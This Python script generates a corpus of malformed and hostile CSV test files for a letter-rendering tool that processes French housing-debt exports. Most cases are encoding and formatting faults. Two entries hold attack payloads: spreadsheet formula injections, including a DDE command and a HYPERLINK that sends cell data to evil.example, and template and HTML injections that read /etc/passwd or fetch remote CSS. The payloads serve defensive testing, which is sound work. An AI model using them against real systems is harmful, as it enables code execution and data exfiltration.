"""Write the corpus of hostile and broken case files in ``tests/data/hostile/``.

Each file is one attack or fault a partner's export or a hand edit can bring;
``tests/test_hostile_corpus.py`` runs every one through ``pexmail render`` and
states what it must get. The files are committed; run this after changing it:

    python tools/make_hostile_corpus.py
"""

from __future__ import annotations

import re
from pathlib import Path

HERE = Path(__file__).resolve().parent.parent / "tests" / "data" / "hostile"

EXPLOC = (
    "N° dossier EXPLOC;Civilité;Nom;Prénom;Adresse;Complément d'adresse;Code postal;Commune;"
    "Type de bailleur;Bailleur;Montant de la dette;Loyer mensuel;Date de l'acte;Date du bail;"
    "Allocataire CAF"
)
CLIL = (
    "Réf. ménage;Civilité;Nom de famille;Prénom(s);N° et voie;Bât./Esc./Appt;CP;Ville;Parc;"
    "Nom du bailleur;Dette (€);Loyer (€);Stade de la procédure;Date du dernier acte;"
    "Date d'audience;Allocataire"
)


def good(n: int, name: str = "MARTIN") -> str:
    """A row that renders one letter (DRIHL, commandement de payer, social landlord, 93)."""
    return (
        f"H-{n};Mme;{name}{n};Léa;{n} rue de Paris;;93100;Montreuil;Bailleur social;OPH 93;"
        "2 000,00;700,00;01/10/2026;;Oui"
    )


def _key(header: str) -> str:
    return re.sub(r"[^a-z0-9°]+", "_", header.lower())


def row(n: int, **changes: str) -> str:
    """``good(n)`` with some fields changed, named like ``Montant_de_la_dette``."""
    fields = good(n).split(";")
    names = [_key(h) for h in EXPLOC.split(";")]
    for header, value in changes.items():
        fields[names.index(_key(header))] = value
    return ";".join(fields)


def lines(*rows: str, header: str = EXPLOC) -> bytes:
    return ("\n".join([header, *rows]) + "\n").encode("utf-8")


def _utf16_with_lone_surrogate() -> bytes:
    data = bytearray(lines(good(1), good(2)).decode().encode("utf-16"))
    data[-20:-18] = b"\x00\xd8"  # a high surrogate with no low one, in the last row
    return bytes(data)


CORPUS: dict[str, bytes] = {
    "empty.csv": b"",
    "blank.csv": b"\n\r\n\n",
    "header-only.csv": lines(),
    "blank-rows.csv": lines("", ";;;;;;;;;;;;;;", good(1)),
    "unknown-headers.csv": lines(good(1), header=EXPLOC.replace("Code postal", "CP postal")),
    "near-miss-optional-header.csv": lines(
        good(1), header=EXPLOC.replace("Loyer mensuel", "Loyer mensul")
    ),
    "duplicated-header.csv": lines(
        good(1), header=EXPLOC.replace("Date du bail", "Date de l'acte")
    ),
    "no-header.csv": lines(good(2), header=good(1)),
    "ragged-rows.csv": lines(
        good(1),
        "H-2;Mme;PETIT;Lou;3 rue de Paris;;93100;Montreuil",
        good(3) + ";en trop;encore",
        row(4, Adresse="12; rue de Paris"),  # a separator inside an unquoted value
    ),
    "oversized-field.csv": lines(row(1, Adresse='"' + "x" * 200_000 + '"'), good(2)),
    "long-field.csv": lines(row(1, Nom="N" * 301), good(2)),
    "nul-bytes.csv": lines(row(1, Nom="MAR\x00TIN"), good(2)),
    "control-characters.csv": lines(
        row(1, Nom="MARTIN\x07"),
        row(2, Nom="MARTIN\x1b[31m"),
        row(3, Nom="NIT\u202eRAM"),  # right-to-left override: would print reversed
        good(4),
    ),
    "invalid-utf8.csv": lines(good(1)) + good(2).replace("Léa", "L\xe9a").encode("cp1252") + b"\n",
    "mixed-encodings.csv": (
        EXPLOC.encode("cp1252")
        + b"\r\n"
        + good(1).encode("cp1252")
        + b"\r\n"
        + good(2).encode("utf-8")
        + b"\r\n"
    ),
    # Excel's "Unicode text": a lone surrogate in one row; a file cut in the middle of a character.
    "utf16-lone-surrogate.csv": _utf16_with_lone_surrogate(),
    "utf16-truncated.csv": lines(good(1), good(2)).decode().encode("utf-16")[:-3],
    "bad-values.csv": lines(
        row(1, Montant_de_la_dette="-150,00"),
        row(2, Montant_de_la_dette="9 999 999,00"),
        row(3, Montant_de_la_dette="beaucoup"),
        row(4, Montant_de_la_dette="1,234"),
        row(5, Date_de_l_acte="31/02/2026"),
        row(6, Date_de_l_acte="01/10/26"),
        row(7, Date_de_l_acte="01/10/2099"),
        row(8, Type_de_bailleur="Coopérative"),
        row(9, Code_postal="13001", Commune="Marseille"),
        row(10, Code_postal="9310"),
        row(11, Code_postal="ABCDE"),
        row(12, Allocataire_CAF="peut-être"),
        row(13, Loyer_mensuel="50 000,00"),
        good(14),
    ),
    "unknown-stage.csv": lines(
        "C-1;Mme;MARTIN;Léa;1 rue de Paris;;93100;Montreuil;Social;OPH;2 000,00;;Procès;01/10/2026;;oui",
        "C-2;Mme;MARTIN;Léa;2 rue de Paris;;93100;Montreuil;Social;OPH;2 000,00;;CDP;01/10/2026;;oui",
        header=CLIL,
    ),
    "unterminated-quote.csv": lines(
        good(1), 'H-2;"Mme;MARTIN;Léa', *(good(n) for n in range(3, 6))
    ),
    "formula-injection.csv": lines(
        row(1, **{"N°_dossier_EXPLOC": "=cmd|' /C calc'!A0"}),
        row(2, **{"N°_dossier_EXPLOC": '"=HYPERLINK(""http://evil.example/?""&A1;""clic"")"'}),
        row(3, **{"N°_dossier_EXPLOC": "@SUM(1+1)"}),
        row(4, **{"N°_dossier_EXPLOC": "+33 1 23"}, Montant_de_la_dette="=1+1"),
    ),
    "markup-injection.csv": lines(
        row(1, Nom="{{ 7*7 }}", Bailleur="{% include '/etc/passwd' %}"),
        row(2, Nom='<img src="file:///etc/passwd">', Bailleur="<script>alert(1)</script>"),
        row(3, Nom="<style>@import url(http://evil.example/x.css)</style>"),
        row(4, Bailleur='"<p style=""background:url(file:///etc/passwd)"">x</p>"'),
        row(5, Nom="{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        row(6, Bailleur="<link rel=stylesheet href=data:text/css,p{}>"),
    ),
}


def main() -> None:
    HERE.mkdir(parents=True, exist_ok=True)
    for name, data in CORPUS.items():
        (HERE / name).write_bytes(data)
    print(f"{len(CORPUS)} files in {HERE}")


if __name__ == "__main__":
    main()
